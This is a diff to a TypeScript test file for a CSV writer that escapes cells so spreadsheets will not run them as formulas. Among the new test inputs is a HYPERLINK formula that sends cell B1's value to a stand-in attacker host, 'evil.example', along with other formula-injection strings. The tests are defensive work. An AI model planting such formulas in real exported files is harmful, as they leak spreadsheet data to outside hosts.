@@ -13,19 +13,32 @@ async function lineOf(cell: Cell): Promise<string> {
 it.each(['=1+1', '+966551234567', '-2', '@SUM(A1)', ' =1', '\u00a0=1', '\u0001=1', '＝1', '＠x'])(
   'makes text of %j, which a spreadsheet would run',
   async (text) => {
-    expect(await lineOf(text)).toBe(`'${text}`)
+    expect(await lineOf(text)).toBe(`"'${text}"`)
   },
 )
 
 it.each([
-  ['\t=1', '\'\t=1'],
-  ['\r=1', '"\'\r=1"'],
+  ['x;=1+1', `"x;'=1+1"`],
+  ['x; =1+1', `"x;' =1+1"`],
+  ['x|@SUM(A1)', `"x|'@SUM(A1)"`],
+  ['x\t=1+1', `"x\t'=1+1"`],
+  ['A;=HYPERLINK("http://evil.example/?"&B1;"open")', `"A;'=HYPERLINK(""http://evil.example/?""&B1;""open"")"`],
+  ['=a;-b;＝c', `"'=a;'-b;'＝c"`],
+  ['a;b|c', '"a;b|c"'],
+])('makes text of %j, which a spreadsheet with another separator would run', async (text, line) => {
+  expect(await lineOf(text)).toBe(line)
+})
+
+it.each([
+  ['\t=1', `"'\t'=1"`],
+  ['\tx', `"'\tx"`],
+  ['\r=1', `"'\r=1"`],
   ['a,b', '"a,b"'],
   ['say "x"', '"say ""x"""'],
-  ['a = b', 'a = b'],
-  ['عميل', 'عميل'],
+  ['a = b', '"a = b"'],
+  ['عميل', '"عميل"'],
   [-5, '-5'],
-  ['', ''],
+  ['', '""'],
 ] as const)('writes %j as %s', async (cell, line) => {
   expect(await lineOf(cell)).toBe(line)
 })
